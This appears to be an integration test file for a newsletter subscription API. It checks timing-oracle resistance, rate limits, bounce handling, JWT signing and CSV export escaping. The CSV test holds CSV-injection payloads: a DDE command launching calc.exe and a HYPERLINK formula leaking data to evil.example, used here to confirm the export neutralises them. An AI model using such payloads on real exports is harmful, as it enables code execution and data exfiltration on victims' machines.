/**
 * Subscriptions under abuse, over real HTTP with a real SMTP server: `/subscribe` answers known and
 * new addresses after the same work (the confirmation goes out from the jobs queue), CSV exports
 * never carry a formula, and login tokens are signed with a key nothing else uses.
 */
import { createHash, createHmac } from 'node:crypto'

import { parse } from 'csv-parse/sync'

import {
  ADMIN_EMAIL,
  ADMIN_PASSWORD,
  api,
  type RunningServer,
  startServer,
} from '../helpers/server'
import { type ReceivedEmail, startSmtpServer } from '../helpers/smtpServer'

const PAYLOAD_SECRET = 'hardening-secret-for-tests'

let server: RunningServer
let smtp: Awaited<ReturnType<typeof startSmtpServer>>
let client: ReturnType<typeof api>
let adminToken: string

beforeAll(async () => {
  smtp = await startSmtpServer()
  server = await startServer('subscriptions-hardening', {
    SMTP_HOST: '127.0.0.1',
    SMTP_PORT: String(smtp.port),
    EMAIL_FROM: 'updates@q.example.org',
    PAYLOAD_SECRET,
    SUBSCRIBE_RATE_LIMIT: '1000',
    SUBSCRIPTIONS_QUEUE_CRON: '* * * * * *',
    BOUNCE_SECRET: 'bounce-secret-for-tests',
  })
  client = api(server.url)
  adminToken = await client.login('users', ADMIN_EMAIL, ADMIN_PASSWORD)
}, 120_000)

afterAll(async () => {
  await server?.stop()
  await smtp?.stop()
})

const subscribe = (email: string) =>
  client.request('POST', '/api/subscribers/subscribe', { json: { email, topics: ['blogs'] } })
const confirmationTo = (email: string) => (message: ReceivedEmail) =>
  message.to.includes(email) && message.subject.startsWith('Confirm')
const tokenIn = (text: string, path: string) =>
  new RegExp(`${path}\\?token=([A-Za-z0-9_-]{43})`).exec(text)?.[1] as string
const median = (values: number[]) => {
  const sorted = [...values].sort((a, b) => a - b)
  const middle = sorted.length / 2
  return sorted.length % 2 ? sorted[Math.floor(middle)] : (sorted[middle - 1] + sorted[middle]) / 2
}
const sleep = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms))

describe('no timing oracle on /subscribe', () => {
  const known = Array.from({ length: 20 }, (_, i) => `known-${i}@example.org`)
  const fresh = Array.from({ length: 20 }, (_, i) => `fresh-${i}@example.org`)

  beforeAll(async () => {
    // Known addresses in every state: 10 pending, 5 confirmed, 5 confirmed then unsubscribed.
    for (const email of known) expect((await subscribe(email)).status).toBe(202)
    const emails = await smtp.waitForCount(
      (message) =>
        message.subject.startsWith('Confirm') && message.to.some((to) => to.startsWith('known-')),
      known.length,
      30_000,
    )
    for (const email of known.slice(10)) {
      const message = emails.find(confirmationTo(email)) as ReceivedEmail
      const confirmed = await client.request('POST', '/api/subscribers/confirm', {
        json: { token: tokenIn(message.text, '/api/subscribers/confirm') },
      })
      expect(confirmed.status).toBe(200)
    }
    for (const email of known.slice(15)) {
      const message = emails.find(confirmationTo(email)) as ReceivedEmail
      const manageToken = /unsubscribe\?token=([A-Za-z0-9_-]{43})/.exec(
        message.rawHeaders['list-unsubscribe'] ?? '',
      )?.[1]
      const unsubscribed = await fetch(
        `${server.url}/api/subscribers/unsubscribe?token=${manageToken}`,
        {
          method: 'POST',
          headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
          body: 'List-Unsubscribe=One-Click',
        },
      )
      expect(unsubscribed.status).toBe(200)
    }
  }, 60_000)

  test('medians of 20 known and 20 new addresses differ by less than 20 ms, with the same answer', async () => {
    for (let i = 0; i < 5; i++) await subscribe(`warm-up-${i}@example.org`) // JIT and connections
    const timed = async (email: string) => {
      const started = performance.now()
      const response = await subscribe(email)
      return { ms: performance.now() - started, response }
    }
    const knownRuns: Awaited<ReturnType<typeof timed>>[] = []
    const freshRuns: Awaited<ReturnType<typeof timed>>[] = []
    // Interleaved, alternating which goes first, so background work (the queue) falls on both alike.
    for (let i = 0; i < 20; i++) {
      if (i % 2) {
        knownRuns.push(await timed(known[i]))
        freshRuns.push(await timed(fresh[i]))
      } else {
        freshRuns.push(await timed(fresh[i]))
        knownRuns.push(await timed(known[i]))
      }
    }
    const answers = new Set(
      [...knownRuns, ...freshRuns].map(({ response }) => `${response.status} ${response.text}`),
    )
    expect([...answers]).toEqual([`202 ${freshRuns[0].response.text}`])
    const knownMedian = median(knownRuns.map(({ ms }) => ms))
    const freshMedian = median(freshRuns.map(({ ms }) => ms))
    console.log(
      `subscribe medians: known ${knownMedian.toFixed(1)} ms, new ${freshMedian.toFixed(1)} ms`,
    )
    expect(Math.abs(knownMedian - freshMedian)).toBeLessThan(20)
  })

  test('the confirmation still arrives, from the queue, within its cadence; confirmed addresses get none', async () => {
    await smtp.waitForCount(
      (message) =>
        message.subject.startsWith('Confirm') && message.to.some((to) => to.startsWith('fresh-')),
      fresh.length,
      30_000,
    )
    const started = Date.now()
    expect((await subscribe('cadence@example.org')).status).toBe(202)
    const email = await smtp.waitFor(confirmationTo('cadence@example.org'), 5000)
    expect(Date.now() - started).toBeLessThan(5000)
    const confirmed = await client.request('POST', '/api/subscribers/confirm', {
      json: { token: tokenIn(email.text, `${server.url}/api/subscribers/confirm`) },
    })
    expect(confirmed.status).toBe(200)
    await sleep(2500) // a queue cycle after the known addresses' second requests
    const confirmations = (email: string) => smtp.messages.filter(confirmationTo(email)).length
    // Confirmed: left alone. Pending and unsubscribed: nothing new within the resend interval.
    expect(known.map(confirmations)).toEqual(Array(known.length).fill(1))
  })

  test('the per-address limit answers a known address exactly as a new one', async () => {
    const statuses = async (email: string) => {
      const answers: string[] = []
      for (let i = 0; i < 6; i++) {
        const response = await subscribe(email)
        answers.push(`${response.status} ${response.text}`)
      }
      return answers
    }
    // known-12 is confirmed and has asked twice; fresh-12 is pending and asks its second time now.
    // The limit counts requests whatever the state, so both now answer alike, refusal included.
    expect((await subscribe('fresh-12@example.org')).status).toBe(202)
    const [knownAnswers, freshAnswers] = [
      await statuses('known-12@example.org'),
      await statuses('fresh-12@example.org'),
    ]
    expect(knownAnswers).toEqual(freshAnswers)
    expect(knownAnswers.at(-1)).toMatch(/^429 /)
  })
})

describe('CSV export', () => {
  test('a subscriber whose address or consent source starts like a formula exports as text', async () => {
    const address = "=cmd|'/ccalc.exe'!a0@example.org"
    expect((await subscribe(address)).status).toBe(202)
    await smtp.waitFor(confirmationTo(address), 10_000)
    const found = await client.request(
      'GET',
      `/api/subscribers?where[email][equals]=${encodeURIComponent(address)}`,
      { token: adminToken },
    )
    const id = found.body.docs?.[0]?.id
    expect(id).toBeDefined()
    const source = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
    const patched = await client.request('PATCH', `/api/subscribers/${id}`, {
      token: adminToken,
      json: { consent: { source } },
    })
    expect(patched.status).toBe(200)

    const exported = await client.request('GET', '/api/subscribers/export.csv', {
      token: adminToken,
    })
    expect(exported.status).toBe(200)
    const rows = parse(exported.text, { columns: true }) as Record<string, string>[]
    const row = rows.find((candidate) => candidate.email.includes('ccalc'))
    expect(row).toMatchObject({ email: `'${address}`, consentSource: `'${source}` })
    expect(row?.consentSource.startsWith(`'=HYPERLINK(`)).toBe(true)
    const dangerous = rows
      .flatMap((candidate) => Object.values(candidate))
      .filter((cell) => /^[=+\-@\t\r]/.test(cell))
    expect(dangerous).toEqual([])
  })
})

describe('bounces', () => {
  test('20 hard bounces at once count 20, and suppress the address', async () => {
    expect((await subscribe('bouncy@example.org')).status).toBe(202)
    await smtp.waitFor(confirmationTo('bouncy@example.org'), 10_000)
    const responses = await Promise.all(
      Array.from({ length: 20 }, () =>
        client.request('POST', '/api/subscribers/bounce', {
          json: { email: 'bouncy@example.org', type: 'hard' },
          headers: { 'x-bounce-secret': 'bounce-secret-for-tests' },
        }),
      ),
    )
    expect(responses.map((response) => response.status)).toEqual(Array(20).fill(202))
    const stored = await client.request(
      'GET',
      '/api/subscribers?where[email][equals]=bouncy@example.org',
      { token: adminToken },
    )
    expect(stored.body.docs?.[0]).toMatchObject({ bounceCount: 20, status: 'suppressed' })
  })
})

describe('keys', () => {
  test("login tokens are signed with Payload's own hash of the secret, which the derived keys are not", async () => {
    const [header, payload, signature] = adminToken.split('.')
    const jwtKey = createHash('sha256').update(PAYLOAD_SECRET).digest('hex').slice(0, 32)
    expect(createHmac('sha256', jwtKey).update(`${header}.${payload}`).digest('base64url')).toBe(
      signature,
    )
  })
})
